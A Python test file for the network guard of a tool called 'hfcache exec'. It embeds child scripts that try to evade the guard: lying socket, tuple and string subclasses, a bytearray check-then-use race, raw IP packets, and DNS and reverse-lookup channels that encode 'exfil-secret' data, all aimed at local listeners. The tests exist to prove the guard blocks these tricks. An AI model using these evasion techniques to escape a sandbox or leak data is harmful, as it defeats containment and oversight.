"""Objects, sockets and names built to slip past ``hfcache exec``'s network guard; ``--allow-host`` is one host.

A child under ``hfcache exec`` builds each object that lies about itself - a ``socket.socket`` subclass whose
``family`` property says ``AF_UNIX``, a ``tuple`` subclass whose ``__getitem__`` names an allowed host, a ``str``
subclass whose ``__str__`` (and ``encode``, which the ``idna`` codec calls) says an allowed name - and aims it at a
real TCP+UDP listener on 127.0.0.1 and, for DNS, at a real UDP nameserver on 127.0.0.1:53 (a private
``/etc/resolv.conf`` in a mount namespace, as tests/integration/test_guard_dns.py does). Each gets ``NetworkBlocked``
and the listeners see nothing; the same child without the guard reaches them, so every check can fail. An
``--allow-host`` holding a separator is exit 2 before anything starts, and a child handed a malformed
``HFCACHE_ALLOW_HOSTS`` allows nothing (it used to start unguarded).
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
from pathlib import Path

import pytest

from hfcache.offline import guard
from hfcache.offline.guard import ENV_ALLOW_HOSTS, site_dir
from tests.canary import Canary
from tests.helpers import clean_env, listener, run_hfcache

#: Every lie aimed at the listener's port; 127.0.0.2 is what the lies claim (exec allows it with --allow-host).
LIARS = textwrap.dedent("""
    import json, socket, sys
    port = int(sys.argv[1])
    target = ("127.0.0.1", port)
    class UnixClaim(socket.socket):
        @property
        def family(self):
            return socket.AF_UNIX
    class AllowedTuple(tuple):
        def __getitem__(self, i):
            return ("127.0.0.2", port)[i]
        def __len__(self):
            return 2
    class AllowedStr(str):
        def __str__(self):
            return "127.0.0.2"
        def lower(self):
            return "127.0.0.2"
    class Port(int):
        pass
    def family_tcp():
        s = UnixClaim(); s.connect(target); s.sendall(b"family-tcp")
    def family_connect_ex():
        s = UnixClaim(); s.connect_ex(target); s.sendall(b"family-connect-ex")
    def family_udp_sendto():
        UnixClaim(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"family-udp", target)
    def family_udp_sendmsg():
        UnixClaim(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"family-sendmsg"], [], 0, target)
    def family_fastopen():
        UnixClaim().sendmsg([b"family-fastopen"], [], socket.MSG_FASTOPEN, target)
    def tuple_connect():
        s = socket.socket(); s.connect(AllowedTuple(target)); s.sendall(b"tuple-connect")
    def tuple_udp():
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"tuple-udp", AllowedTuple(target))
    def str_connect():
        s = socket.socket(); s.connect((AllowedStr("127.0.0.1"), port)); s.sendall(b"str-connect")
    def str_udp():
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"str-udp", (AllowedStr("127.0.0.1"), port))
    def int_port():
        s = socket.socket(); s.connect(("127.0.0.1", Port(port))); s.sendall(b"int-port")
    def fileno_claim():
        fd = socket.socket(socket.AF_INET, socket.SOCK_DGRAM).detach()
        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM, 0, fileno=fd).sendto(b"fileno", "/nonexistent")
    out = {}
    for attempt in (family_tcp, family_connect_ex, family_udp_sendto, family_udp_sendmsg, family_fastopen,
                    tuple_connect, tuple_udp, str_connect, str_udp, int_port, fileno_claim):
        try:
            attempt()
            out[attempt.__name__] = "sent"
        except Exception as exc:
            out[attempt.__name__] = f"{type(exc).__name__}: {exc}"
    print(json.dumps(out))
""")

#: Look-ups of a secret name through a str whose every Python-level answer says "localhost" (always resolvable).
DNS_LIARS = textwrap.dedent("""
    import json, socket
    class Localhost(str):
        def __str__(self):
            return "localhost"
        def lower(self):
            return "localhost"
        def encode(self, *args, **kwargs):
            return str.encode(self, *args, **kwargs)
    secret = "exfil-secret-{}.example"
    tries = {
        "getaddrinfo": lambda: socket.getaddrinfo(Localhost(secret.format(1)), 80),
        "gethostbyname": lambda: socket.gethostbyname(Localhost(secret.format(2))),
        "gethostbyname_ex": lambda: socket.gethostbyname_ex(Localhost(secret.format(3))),
        "gethostbyaddr": lambda: socket.gethostbyaddr(Localhost(secret.format(4))),
        "create_connection": lambda: socket.create_connection((Localhost(secret.format(5)), 80), timeout=3),
        # Plain names, no lie: C resolves an address's name before the audit event (the guard checks first).
        "connect_name": lambda: socket.socket().connect((secret.format(6), 80)),
        "sendto_name": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (secret.format(7), 80)),
        "sendmsg_name": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"x"], [], 0,
                                                                                          (secret.format(8), 80)),
        "connect_ex_name": lambda: socket.socket().connect_ex((secret.format(9), 80)),
    }
    out = {}
    for name, attempt in tries.items():
        try:
            attempt()
            out[name] = "resolved"
        except Exception as exc:
            out[name] = f"{type(exc).__name__}: {exc}"
    print(json.dumps(out))
""")

BLOCKED_TYPE = "NetworkBlocked: hfcache blocked a call with an argument of type"


def _results(proc: subprocess.CompletedProcess[str]) -> dict[str, str]:
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout.strip().splitlines()[-1])


def test_objects_that_lie_about_themselves_are_refused_and_nothing_arrives(tmp_path):
    canary = Canary(tmp_path)
    with listener() as (port, arrivals):
        proc = run_hfcache(["exec", "--cache-dir", str(tmp_path / "cache"), "--allow-host", f"127.0.0.2:{port}",
                            "--", sys.executable, "-c", LIARS, str(port)])
        results = _results(proc)
        threading.Event().wait(1.0)  # let late datagrams land
        assert arrivals == [], (arrivals, results)
    assert set(results) == {"family_tcp", "family_connect_ex", "family_udp_sendto", "family_udp_sendmsg",
                            "family_fastopen", "tuple_connect", "tuple_udp", "str_connect", "str_udp", "int_port",
                            "fileno_claim"}
    for name in ("family_tcp", "family_connect_ex", "family_udp_sendto", "family_udp_sendmsg", "family_fastopen"):
        assert results[name].startswith(f"NetworkBlocked: hfcache blocked a connection to 127.0.0.1:{port}:"), name
    assert results["tuple_connect"].startswith(f"{BLOCKED_TYPE} AllowedTuple "), results
    assert results["tuple_udp"].startswith(f"{BLOCKED_TYPE} AllowedTuple "), results
    assert results["str_connect"].startswith(f"{BLOCKED_TYPE} AllowedStr "), results
    assert results["str_udp"].startswith(f"{BLOCKED_TYPE} AllowedStr "), results
    assert results["int_port"].startswith(f"{BLOCKED_TYPE} Port "), results
    assert results["fileno_claim"].startswith("NetworkBlocked: hfcache blocked a socket of address family "
                                              "AF_INET/AF_UNIX"), results
    canary.assert_unchanged()


def test_without_the_guard_the_same_lies_reach_the_listener(tmp_path):
    """The control: every lie is a working send when nothing guards the child."""
    with listener() as (port, arrivals):
        results = _results(subprocess.run([sys.executable, "-c", LIARS, str(port)], capture_output=True, text=True,
                                          env=clean_env(), timeout=60))
        threading.Event().wait(1.0)
    assert {k for k, v in results.items() if v == "sent"} >= {"family_tcp", "family_udp_sendto", "tuple_connect",
                                                             "tuple_udp", "str_connect", "str_udp", "int_port"}
    assert "tcp:b'tuple-connect'" in arrivals and "udp:b'str-udp'" in arrivals, arrivals


def _with_nameserver(tmp_path: Path, argv: list[str],
                     hosts: str = "127.0.0.1 localhost\n") -> tuple[subprocess.CompletedProcess[str], list[bytes]]:
    """Run ``argv`` with /etc/resolv.conf naming a UDP listener on 127.0.0.1:53 that records every query, and
    /etc/hosts holding ``hosts``."""
    (tmp_path / "resolv.conf").write_text("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
    (tmp_path / "hosts").write_text(hosts)
    dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    dns.bind(("127.0.0.1", 53))
    dns.settimeout(0.2)
    queries: list[bytes] = []
    stop = threading.Event()

    def record() -> None:
        while not stop.is_set():
            with contextlib.suppress(OSError):
                queries.append(dns.recvfrom(4096)[0])  # never answered: the client times out

    thread = threading.Thread(target=record, daemon=True)
    thread.start()
    script = 'mount --bind "$1" /etc/resolv.conf && mount --bind "$2" /etc/hosts && shift 2 && exec "$@"'
    try:
        proc = subprocess.run(["unshare", "-m", "sh", "-c", script, "sh", str(tmp_path / "resolv.conf"),
                               str(tmp_path / "hosts"), *argv], capture_output=True, text=True, env=clean_env(),
                              timeout=120)
        threading.Event().wait(1.0)
    finally:
        stop.set()
        thread.join()
        dns.close()
    return proc, queries


needs_unshare = pytest.mark.skipif(os.geteuid() != 0 or shutil.which("unshare") is None,
                                   reason="needs root and unshare for a private /etc/resolv.conf")


@needs_unshare
def test_a_str_that_says_localhost_sends_no_dns_query(tmp_path):
    canary = Canary(tmp_path)
    guarded = [sys.executable, "-m", "hfcache", "exec", "--cache-dir", str(tmp_path / "cache"), "--"]
    proc, queries = _with_nameserver(tmp_path, [*guarded, sys.executable, "-c", DNS_LIARS])
    results = _results(proc)
    assert queries == [], (queries, results)
    lies = {"getaddrinfo", "gethostbyname", "gethostbyname_ex", "gethostbyaddr", "create_connection"}
    names = {"connect_name": 6, "sendto_name": 7, "sendmsg_name": 8, "connect_ex_name": 9}
    assert set(results) == lies | set(names)
    for name in lies:
        assert results[name].startswith(f"{BLOCKED_TYPE} Localhost "), (name, results[name])
    for name, n in names.items():
        assert results[name].startswith(f"NetworkBlocked: hfcache blocked a connection to exfil-secret-{n}.example:80"
                                        ": "), (name, results[name])
    canary.assert_unchanged()


@needs_unshare
def test_without_the_guard_the_str_lie_queries_the_nameserver(tmp_path):
    proc, queries = _with_nameserver(tmp_path, [sys.executable, "-c", DNS_LIARS])
    _results(proc)
    for n in (1, 6, 7):
        assert any(f"exfil-secret-{n}".encode() in q for q in queries), (n, queries)


@pytest.mark.parametrize("spec", ["redis,127.0.0.1", "redis 127.0.0.1", "redis;127.0.0.1", "redis\t", " redis",
                                  "redis\n127.0.0.1", "user@redis", "redis/32", "[::1],127.0.0.1", "1234",
                                  "redis:6379,127.0.0.1:6379", "r\u2028edis", "ex\u0430mple.org", "redis:",
                                  "[1.2.3.4]"])
def test_allow_host_must_be_exactly_one_host(tmp_path, spec):
    canary = Canary(tmp_path)
    marker = tmp_path / "started"
    proc = run_hfcache(["exec", "--cache-dir", str(tmp_path / "cache"), "--allow-host", spec, "--", sys.executable,
                        "-c", f"open({str(marker)!r}, 'w').close()"])
    assert proc.returncode == 2, proc.stderr
    lines = proc.stderr.splitlines()
    assert lines[0].startswith(f"hfcache: error: invalid {'port in' if spec == 'redis:' else 'host'} {spec!r}"), lines
    assert "Traceback" not in proc.stderr and len(lines) <= 2, lines
    assert not marker.exists()
    canary.assert_unchanged()


@pytest.mark.parametrize("value", ["127.0.0.1,bad host", " 127.0.0.1", "127.0.0.1,", "127.0.0.1,,redis",
                                   "127.0.0.1;redis", "127.0.0.1\n"])
def test_a_child_given_a_malformed_allow_list_allows_nothing(tmp_path, value):
    """A parent (or a process that rewrote its environment) passes a malformed HFCACHE_ALLOW_HOSTS: the child's
    guard is installed with nothing allowed and says so; it used to start unguarded (or to strip the entry)."""
    canary = Canary(tmp_path)
    child = ("import socket, sys\ntry:\n    socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=5)"
             ".sendall(b'through')\n    print('sent')\nexcept Exception as exc:\n    print(type(exc).__name__)")
    with listener() as (port, arrivals):
        env = clean_env(PYTHONPATH=site_dir(), **{ENV_ALLOW_HOSTS: value.replace("127.0.0.1", f"127.0.0.1:{port}")})
        proc = subprocess.run([sys.executable, "-c", child, str(port)], capture_output=True, text=True, env=env,
                              timeout=60)
        threading.Event().wait(0.5)
        assert arrivals == [], arrivals
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == "NetworkBlocked", proc.stdout
    assert proc.stderr.startswith(f"hfcache: warning: {ENV_ALLOW_HOSTS} is malformed ("), proc.stderr
    assert proc.stderr.endswith("the network guard allows no host\n") and proc.stderr.count("\n") == 1, proc.stderr
    canary.assert_unchanged()


def test_a_well_formed_allow_list_still_reaches_its_host(tmp_path):
    """The control for the two above: one exact entry, passed by exec, is reached."""
    child = "import socket, sys; socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=5).sendall(b'ok')"
    with listener() as (port, arrivals):
        proc = run_hfcache(["exec", "--cache-dir", str(tmp_path / "cache"), "--allow-host", f"127.0.0.1:{port}",
                            "--allow-host", "redis:6379", "--", sys.executable, "-c", child, str(port)])
        threading.Event().wait(0.5)
        assert proc.returncode == 0, proc.stderr
        assert arrivals == ["tcp:b'ok'"], arrivals


# ------------------------------------------------------------------------------ the rules, without a child


@pytest.mark.parametrize("spec, host, port", [
    ("redis", "redis", None), ("my_service_1:6379", "my_service_1", 6379),
    ("Mirror.Internal.:443", "mirror.internal", 443),
    ("10.0.0.1:80", "10.0.0.1", 80), ("[fe80::1%eth0]:80", "fe80::1", 80), ("::1", "::1", None),
    ("[::ffff:127.0.0.1]", "127.0.0.1", None),
])
def test_one_host_entries_still_parse(spec, host, port):
    entry = guard.parse_allow_host(spec)
    assert (entry.host, entry.port) == (host, port)
    assert guard.hosts_from_environ({ENV_ALLOW_HOSTS: guard.format_allow_hosts([entry])}) == (entry,)


@pytest.mark.parametrize("value", ["a,,b", ",a", "a,", " a", "a ,b", "a;b", "a,b c", "a,\u2028b"])
def test_a_malformed_environment_value_raises_instead_of_being_split_some_other_way(value):
    with pytest.raises(ValueError):
        guard.hosts_from_environ({ENV_ALLOW_HOSTS: value})
    assert guard.hosts_from_environ({ENV_ALLOW_HOSTS: ""}) == ()


def test_the_hook_refuses_subclasses_at_every_event():
    g = guard.Guard()
    g.allow(["localhost", "127.0.0.2"])
    g.enforce()

    class Str(str):
        def __str__(self):
            return "localhost"

    class Tup(tuple):
        pass

    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        events = [("socket.connect", (sock, Tup(("127.0.0.2", 9)))),
                  ("socket.sendto", (sock, (Str("127.0.0.2"), 9))),
                  ("socket.sendmsg", (sock, ("127.0.0.2", True))),
                  ("socket.getaddrinfo", (Str("x.example"), 80, 0, 0, 0, 0)),
                  ("socket.getaddrinfo", ("localhost", Str("80"), 0, 0, 0, 0)),
                  ("socket.gethostbyname", (Str("x.example"),)),
                  ("socket.gethostbyaddr", (Str("x.example"),)),
                  ("socket.getnameinfo", (Tup(("127.0.0.1", 80)),)),
                  ("socket.getnameinfo", ((Str("127.0.0.1"), 80),))]
        for event, args in events:
            with pytest.raises(guard.NetworkBlocked, match="call with an argument of type (Str|Tup|bool) "):
                g.hook(event, args)
        g.hook("socket.connect", (sock, ("127.0.0.2", 9)))  # plain values: checked, allowed
        g.hook("socket.getaddrinfo", ("localhost", 80, 0, 0, 0, 0))
        g.hook("socket.getnameinfo", (("127.0.0.1", 80),))
    finally:
        sock.close()


def test_a_refused_name_is_reported_on_one_line_and_entries_are_reparsed():
    g = guard.Guard()
    g.enforce()
    with pytest.raises(guard.NetworkBlocked) as refused:
        g.hook("socket.getaddrinfo", ("a\nb\x1b[2J.example", 80, 0, 0, 0, 0))
    assert "\n" not in str(refused.value) and "\x1b" not in str(refused.value)
    assert g.attempts == ["a\\nb\\x1b[2J.example"]

    class Liar:
        def __str__(self):
            return "redis,127.0.0.1"

    with pytest.raises(ValueError, match="invalid host"):
        g.allow([Liar()])
    g.allow([guard.AllowedHost("10.0.0.1", 80)])
    assert g.allowed == (guard.parse_allow_host("10.0.0.1:80"),)


# ----------------------------- hosts that change, raw sockets, reverse look-ups, hosts-file names

#: A bytearray host can change between the guard's check and C's parse: refused at every call that takes one.
BYTEARRAY_HOSTS = textwrap.dedent("""
    import json, socket, sys, threading, time
    port, race_port = int(sys.argv[1]), int(sys.argv[2])
    host = lambda: bytearray(b"127.0.0.1")
    tries = {
        "connect": lambda: socket.socket().connect((host(), port)),
        "connect_ex": lambda: socket.socket().connect_ex((host(), port)),
        "sendto": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"ba-sendto", (host(), port)),
        "sendmsg": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"ba"], [], 0, (host(), port)),
        "getaddrinfo": lambda: socket.getaddrinfo(host(), port),
        "create_connection": lambda: socket.create_connection((host(), port), timeout=3),
        "gethostbyaddr": lambda: socket.gethostbyaddr(host()),
        "memoryview": lambda: socket.socket().connect((memoryview(b"127.0.0.1"), port)),
    }
    out = {}
    for name, attempt in tries.items():
        try:
            attempt()
            out[name] = "sent"
        except Exception as exc:
            out[name] = f"{type(exc).__name__}: {exc}"
    # The race, bounded: another thread flips the last digit between 1 and 2.
    sys.setswitchinterval(1e-6)
    ba, stop, won = bytearray(b"127.0.0.1"), [], []
    def flip():
        while not stop:
            ba[8] = 50
            ba[8] = 49
    threading.Thread(target=flip, daemon=True).start()
    end = time.monotonic() + 3
    while time.monotonic() < end and not won:
        s = socket.socket()
        try:
            s.connect((ba, race_port)); won.append(s.getpeername()[0]); s.send(b"race-won")
        except Exception:
            pass
        finally:
            s.close()
    stop.append(1)
    out["race"] = won
    print(json.dumps(out))
""")


def _tcp_listener(host: str) -> tuple[socket.socket, list[bytes], threading.Event]:
    server = socket.socket()
    server.bind((host, 0))
    server.listen(64)
    server.settimeout(0.2)
    got: list[bytes] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            got.append(b"connection")
            conn.close()

    threading.Thread(target=accept, daemon=True).start()
    return server, got, stop


def test_bytearray_hosts_are_refused_so_what_is_checked_is_what_c_uses(tmp_path):
    canary = Canary(tmp_path)
    race, race_got, stop = _tcp_listener("127.0.0.2")
    try:
        with listener() as (port, arrivals):
            proc = run_hfcache(["exec", "--cache-dir", str(tmp_path / "cache"), "--allow-host", "127.0.0.1",
                                "--", sys.executable, "-c", BYTEARRAY_HOSTS, str(port),
                                str(race.getsockname()[1])])
            results = _results(proc)
            threading.Event().wait(0.5)
            assert arrivals == [], (arrivals, results)
    finally:
        stop.set()
        race.close()
    assert race_got == [] and results.pop("race") == [], results
    assert set(results) == {"connect", "connect_ex", "sendto", "sendmsg", "getaddrinfo", "create_connection",
                            "gethostbyaddr", "memoryview"}
    # C's getaddrinfo takes no bytearray at all (TypeError before anything is resolved)
    for name in ("getaddrinfo", "create_connection"):
        assert results.pop(name) == "TypeError: getaddrinfo() argument 1 must be string or None", results
    for name, result in results.items():
        kind = "memoryview" if name == "memoryview" else "bytearray"
        assert result.startswith(f"{BLOCKED_TYPE} {kind} (only a plain tuple, str, bytes or int is read)"), \
            (name, result)
        assert "\n" not in result
    canary.assert_unchanged()


def test_the_hook_refuses_a_bytearray_host_at_every_event():
    g = guard.Guard()
    g.allow(["127.0.0.1"])
    g.enforce()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        for event, args in [("socket.connect", (sock, (bytearray(b"127.0.0.1"), 9))),
                            ("socket.sendto", (sock, (bytearray(b"127.0.0.1"), 9))),
                            ("socket.getaddrinfo", (bytearray(b"127.0.0.1"), 9, 0, 0, 0, 0)),
                            ("socket.gethostbyname", (bytearray(b"localhost"),)),
                            ("socket.gethostbyaddr", (bytearray(b"127.0.0.1"),)),
                            ("socket.getnameinfo", ((bytearray(b"127.0.0.1"), 9),))]:
            with pytest.raises(guard.NetworkBlocked, match="call with an argument of type bytearray "):
                g.hook(event, args)
        g.hook("socket.connect", (sock, (b"127.0.0.1", 9)))  # bytes cannot change: read, allowed
    finally:
        sock.close()


#: Raw sockets ignore sendto's port (and, with IP_HDRINCL, its host): a UDP datagram to any port.
RAW_SENDS = textwrap.dedent("""
    import json, socket, struct, sys
    port, allowed = int(sys.argv[1]), int(sys.argv[2])
    def raw_udp():
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
        payload = b"raw-udp"
        s.sendto(struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload, ("127.0.0.1", allowed))
    def raw_hdrincl():
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW | socket.SOCK_CLOEXEC, socket.IPPROTO_RAW)
        payload = b"raw-hdrincl"
        udp = struct.pack("!HHHH", 40001, port, 8 + len(payload), 0) + payload
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, socket.IPPROTO_UDP, 0,
                         socket.inet_aton("127.0.0.1"), socket.inet_aton("127.0.0.1"))
        s.sendto(ip + udp, ("127.0.0.1", allowed))
    def raw_v6():
        socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_UDP)
    def raw_c():
        import _socket
        _socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    out = {}
    for attempt in (raw_udp, raw_hdrincl, raw_v6, raw_c):
        try:
            attempt()
            out[attempt.__name__] = "sent"
        except Exception as exc:
            out[attempt.__name__] = f"{type(exc).__name__}: {exc}"
    print(json.dumps(out))
""")
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="raw sockets need CAP_NET_RAW")


@needs_root
def test_raw_sockets_are_refused_and_nothing_reaches_another_port(tmp_path):
    canary = Canary(tmp_path)
    with listener() as (port, arrivals):
        proc = run_hfcache(["exec", "--cache-dir", str(tmp_path / "cache"), "--allow-host", "127.0.0.1:6379", "--",
                            sys.executable, "-c", RAW_SENDS, str(port), "6379"])
        results = _results(proc)
        threading.Event().wait(0.5)
        assert arrivals == [], (arrivals, results)
    assert results == {
        "raw_udp": "NetworkBlocked: hfcache blocked a socket of type SOCK_RAW (AF_INET): this process runs offline "
                   "under hfcache's network guard. Such sockets cannot be allowed; run this without hfcache's guard "
                   "if it must",
        "raw_hdrincl": results["raw_hdrincl"], "raw_v6": results["raw_v6"], "raw_c": results["raw_c"]}, results
    assert results["raw_c"] == results["raw_udp"], results
    assert results["raw_hdrincl"].startswith("NetworkBlocked: hfcache blocked a socket of type SOCK_RAW (AF_INET):")
    assert results["raw_v6"].startswith("NetworkBlocked: hfcache blocked a socket of type SOCK_RAW (AF_INET6):")
    canary.assert_unchanged()


@needs_root
def test_without_the_guard_raw_udp_reaches_a_port_not_named(tmp_path):
    with listener() as (port, arrivals):
        results = _results(subprocess.run([sys.executable, "-c", RAW_SENDS, str(port), "6379"], capture_output=True,
                                          text=True, env=clean_env(), timeout=60))
        threading.Event().wait(1.0)
    assert results["raw_udp"] == "sent" and "udp:b'raw-udp'" in arrivals, (results, arrivals)


@needs_root
def test_an_adopted_raw_descriptor_is_refused_by_what_the_kernel_says():
    """socket(AF_INET, SOCK_DGRAM, fileno=<raw>) and socket.fromfd: the type Python was told is not read."""
    g = guard.Guard()
    g.allow(["127.0.0.1"])
    g.enforce()
    with pytest.raises(guard.NetworkBlocked, match=r"socket of type SOCK_RAW \(AF_INET\)"):
        g.hook("socket.__new__", (None, socket.AF_INET, socket.SOCK_RAW | socket.SOCK_NONBLOCK, 17))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    adopted = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 0, fileno=os.dup(raw.fileno()))
    dup = socket.fromfd(raw.fileno(), socket.AF_INET, socket.SOCK_DGRAM)
    try:
        g.hook("socket.__new__", (None, -1, -1, -1))  # fileno= without a type: checked at the send
        for sock in (adopted, dup, raw):
            for event in ("socket.sendto", "socket.connect", "socket.sendmsg"):
                with pytest.raises(guard.NetworkBlocked, match=r"socket of type SOCK_RAW \(AF_INET\)"):
                    g.hook(event, (sock, ("127.0.0.1", 9)))
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        g.hook("socket.sendto", (udp, ("127.0.0.1", 9)))  # a plain UDP socket to an allowed host: allowed
        udp.close()
    finally:
        for sock in (adopted, dup, raw):
            sock.close()


#: Reverse look-ups of chosen addresses: 3 bytes of a secret per PTR query.
REVERSE = textwrap.dedent("""
    import json, socket
    tries = {
        "gethostbyaddr_secret": lambda: socket.gethostbyaddr("127.104.102.95"),
        "getnameinfo_secret": lambda: socket.getnameinfo(("127.83.69.67", 80), 0),
        "getnameinfo_namereqd": lambda: socket.getnameinfo(("127.82.69.84", 80), socket.NI_NAMEREQD),
        "gethostbyaddr_mapped": lambda: socket.gethostbyaddr("::ffff:127.0.0.1"),
        "gethostbyaddr_v6": lambda: socket.gethostbyaddr("::2"),
        "gethostbyaddr_name": lambda: socket.gethostbyaddr("exfil-secret.localhost"),
        # answered without a nameserver: /etc/hosts lists them, or NI_NUMERICHOST asks for no name at all
        "hosts_address": lambda: socket.gethostbyaddr("127.0.0.1")[0],
        "hosts_name": lambda: socket.gethostbyaddr("vm")[0],
        "getnameinfo_hosts": lambda: socket.getnameinfo(("127.0.0.1", 80), 0)[0],
        "getnameinfo_numeric": lambda: socket.getnameinfo(("127.9.9.9", 80), socket.NI_NUMERICHOST)[0],
        "getnameinfo_numeric_both": lambda: socket.getnameinfo(("127.9.9.8", 80),
                                                               socket.NI_NUMERICHOST | socket.NI_NUMERICSERV),
    }
    out = {}
    for name, attempt in tries.items():
        try:
            out[name] = attempt()
        except Exception as exc:
            out[name] = f"{type(exc).__name__}: {exc}"
    print(json.dumps(out))
""")
HOSTS = "127.0.0.1 localhost\n127.0.0.1 vm\n::1 six\n"


def _blocked(action: str, target: str) -> str:
    return f"NetworkBlocked: {guard.NetworkBlocked(action, target)}"


@needs_unshare
def test_reverse_lookups_run_only_when_no_nameserver_is_asked(tmp_path):
    canary = Canary(tmp_path)
    guarded = [sys.executable, "-m", "hfcache", "exec", "--cache-dir", str(tmp_path / "cache"), "--"]
    proc, queries = _with_nameserver(tmp_path, [*guarded, sys.executable, "-c", REVERSE], hosts=HOSTS)
    results = _results(proc)
    assert queries == [], (queries, results)
    for name, target in [("gethostbyaddr_secret", "127.104.102.95"), ("getnameinfo_secret", "127.83.69.67"),
                         ("getnameinfo_namereqd", "127.82.69.84"), ("gethostbyaddr_mapped", "::ffff:127.0.0.1"),
                         ("gethostbyaddr_v6", "::2"), ("gethostbyaddr_name", "exfil-secret.localhost")]:
        assert results[name] == _blocked("reverse DNS lookup of", target), (name, results[name])
    assert results["hosts_address"] == "localhost" and results["hosts_name"] == "localhost", results
    assert results["getnameinfo_hosts"] == "localhost" and results["getnameinfo_numeric"] == "127.9.9.9", results
    assert results["getnameinfo_numeric_both"] == ["127.9.9.8", "80"], results
    canary.assert_unchanged()


@needs_unshare
def test_without_the_guard_the_reverse_lookups_query_the_nameserver(tmp_path):
    proc, queries = _with_nameserver(tmp_path, [sys.executable, "-c", REVERSE], hosts=HOSTS)
    _results(proc)
    for name in (b"\x0295\x03102\x03104\x03127\x07in-addr", b"\x0267\x0269\x0283\x03127\x07in-addr"):
        assert any(name in q for q in queries), (name, queries)


#: Names /etc/hosts lists, asked for another family or with a trailing dot, go to the nameserver.
FORWARD = textwrap.dedent("""
    import json, socket
    tries = {
        "vm_v6": lambda: socket.getaddrinfo("vm", 80, socket.AF_INET6),
        "localhost_v6": lambda: socket.getaddrinfo("localhost", 80, socket.AF_INET6),
        "LoCaLhOsT_v6": lambda: socket.getaddrinfo("LoCaLhOsT", 80, socket.AF_INET6),
        "vm_dot": lambda: socket.getaddrinfo("vm.", 80, socket.AF_INET),
        "localhost_dot": lambda: socket.getaddrinfo("localhost.", 80),
        "gethostbyname_dot": lambda: socket.gethostbyname("RuNsC."),
        "gethostbyname_v6_only": lambda: socket.gethostbyname_ex("six"),
        "vm_v6_stream": lambda: socket.getaddrinfo("vm", 9, socket.AF_INET6, socket.SOCK_STREAM),
        # answered from /etc/hosts: a name it lists for the family asked
        "vm_v4": lambda: socket.getaddrinfo("VM", 80, socket.AF_INET)[0][4][0],
        "vm_any": lambda: socket.getaddrinfo("vm", 80)[0][4][0],
        "six_v6": lambda: socket.getaddrinfo("six", 80, socket.AF_INET6)[0][4][0],
        "gethostbyname": lambda: socket.gethostbyname("vm"),
    }
    out = {}
    for name, attempt in tries.items():
        try:
            out[name] = attempt()
        except Exception as exc:
            out[name] = f"{type(exc).__name__}: {exc}"
    print(json.dumps(out))
""")


@needs_unshare
def test_a_hosts_file_name_resolves_only_for_the_family_and_spelling_the_file_answers(tmp_path):
    canary = Canary(tmp_path)
    guarded = [sys.executable, "-m", "hfcache", "exec", "--cache-dir", str(tmp_path / "cache"), "--"]
    proc, queries = _with_nameserver(tmp_path, [*guarded, sys.executable, "-c", FORWARD], hosts=HOSTS)
    results = _results(proc)
    assert queries == [], (queries, results)
    for name, target in [("vm_v6", "vm"), ("localhost_v6", "localhost"), ("LoCaLhOsT_v6", "LoCaLhOsT"),
                         ("vm_dot", "vm."), ("localhost_dot", "localhost."), ("gethostbyname_dot", "RuNsC."),
                         ("gethostbyname_v6_only", "six"), ("vm_v6_stream", "vm")]:
        assert results[name] == _blocked("DNS lookup of", target), (name, results[name])
    assert results["vm_v4"] == results["vm_any"] == results["gethostbyname"] == "127.0.0.1", results
    assert results["six_v6"] == "::1", results
    canary.assert_unchanged()


@needs_unshare
def test_without_the_guard_those_names_query_the_nameserver(tmp_path):
    proc, queries = _with_nameserver(tmp_path, [sys.executable, "-c", FORWARD], hosts=HOSTS)
    _results(proc)
    for name in (b"\x02vm\x00\x00\x1c", b"\x09LoCaLhOsT\x00\x00\x1c", b"\x09localhost\x00"):
        assert any(name in q for q in queries), (name, queries)


@needs_root
def test_a_raw_socket_of_the_default_family_is_refused_at_creation(tmp_path):
    """``_socket.socket(-1, SOCK_RAW, ...)``: family -1 is C's default (AF_INET) when no descriptor is adopted; a
    socket made that way was raced under a UDP socket's descriptor with ``dup2``."""
    script = ("import _socket, socket\n"
              "try:\n"
              "    _socket.socket(-1, socket.SOCK_RAW, socket.IPPROTO_RAW)\n"
              "    print('CREATED')\n"
              "except Exception as exc:\n"
              "    print(type(exc).__name__)\n")
    proc = run_hfcache(["exec", "--cache-dir", str(tmp_path / "cache"), "--allow-host", "127.0.0.1:9", "--",
                        sys.executable, "-c", script])
    assert proc.returncode == 0 and proc.stdout.strip() == "NetworkBlocked", (proc.stdout, proc.stderr)
